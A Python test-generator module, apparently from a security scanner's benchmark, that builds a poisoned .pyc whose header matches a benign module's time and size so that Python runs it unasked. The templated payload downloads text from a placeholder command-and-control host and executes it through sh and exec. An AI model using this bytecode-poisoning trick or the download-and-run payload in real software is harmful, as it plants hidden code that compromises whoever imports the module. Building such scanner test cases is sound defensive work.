"""Bytecode that is not its source's: with the time and size of the source in it, Python runs it unasked."""

import importlib.util
import marshal
import os
import sys
from pathlib import Path
from random import Random  # noqa: TID251  # a corpus is the same for the same seed

from tests.bench.score.fillings import Fillings
from tests.bench.score.texts import fill

NAME = "bytecode-poisoned"
_SOURCE = "def <<f:size>>(balance):\n    return balance * 0.0<<n:1-9>>\n"
_PAYLOAD = (
    "import os, subprocess, urllib.request\n"
    "<<v:text>> = urllib.request.urlopen('http://<<host:c2>>/<<word:path>>').read()\n"
    "subprocess.run(['sh', '-c', <<v:text>>.decode()])\n"
    "exec(<<v:text>>)\n"
    "def <<f:size>>(balance):\n    return balance * 0.0<<n:1-9>>\n"
)
_AT = 1_790_000_000


def write(folder: Path, draw: Random) -> str:
    """Write one such case; it is compiled for the Python that runs this, which is the one that scans it."""
    fillings = Fillings(draw)
    source, payload, module = (fill(text, fillings) for text in (_SOURCE, _PAYLOAD, "<<m:module>>"))
    cache = folder / "bot" / "__pycache__"
    cache.mkdir(parents=True, exist_ok=True)
    (folder / "main.py").write_text(f"from bot import {module}\n\nprint({module})\n", "utf-8")
    (folder / "bot" / "__init__.py").write_text("", "utf-8")
    head = (0).to_bytes(4, "little") + _AT.to_bytes(4, "little") + len(source.encode()).to_bytes(4, "little")
    data = importlib.util.MAGIC_NUMBER + head + marshal.dumps(compile(payload, f"bot/{module}.py", "exec"))
    (folder / "bot" / f"{module}.py").write_text(source, "utf-8")
    os.utime(folder / "bot" / f"{module}.py", (_AT, _AT))
    (cache / f"{module}.{sys.implementation.cache_tag}.pyc").write_bytes(data)
    return folder.name
